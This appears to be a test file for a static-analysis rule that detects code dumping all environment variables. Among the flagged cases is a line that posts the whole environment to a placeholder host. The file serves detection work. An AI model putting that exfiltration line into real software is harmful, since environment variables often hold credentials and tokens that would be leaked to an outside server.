import json
import os

import requests

# ruleid: env-dump
blob = json.dumps(dict(os.environ))
# ruleid: env-dump
text = "\n".join(f"{k}={v}" for k, v in os.environ.items())
# ruleid: env-dump
requests.post("https://example.invalid", json={"env": dict(os.environ)})
# ok: env-dump
env = os.environ.copy()
# ok: env-dump
path = json.dumps(os.environ.get("PATH"))
